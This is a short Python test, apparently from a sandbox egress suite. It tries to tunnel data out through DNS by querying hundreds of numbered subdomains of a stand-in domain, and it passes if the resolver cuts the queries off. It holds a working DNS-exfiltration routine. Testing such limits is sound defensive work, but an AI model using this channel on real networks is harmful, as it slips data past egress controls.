"""Sends data out as many names of one domain.

Tries: to tunnel in the names themselves.
Must: be cut off after some hundreds.

limits: wallClock=60s
egress: public
expect: SUCCEEDED
"""

import socket
import struct
import time

from lib.attempt import check, finish
from lib.outside import must_be_open, resolver

must_be_open()


def ask(name, kind=1):
    """The code of the answer, and how many answers."""
    message = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
    message += b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.sendto(message, (resolver(), 53))
        try:
            answer = sock.recvfrom(4096)[0]
        except OSError:
            return None
        return answer[3] & 15, struct.unpack("!H", answer[6:8])[0]


answers = []
end = time.monotonic() + 20
for number in range(400):
    answers.append(ask(f"d{number:06x}.vivarium.example.com"))
    if answers[-1] is None or time.monotonic() > end:
        time.sleep(0.05)
    if answers[-3:] == [(5, 0)] * 3:
        break
passed = sum(answer is not None and answer[0] == 3 for answer in answers)
check(f"after {passed} names it was cut off", answers[-3:] == [(5, 0)] * 3 and passed <= 256)
finish()
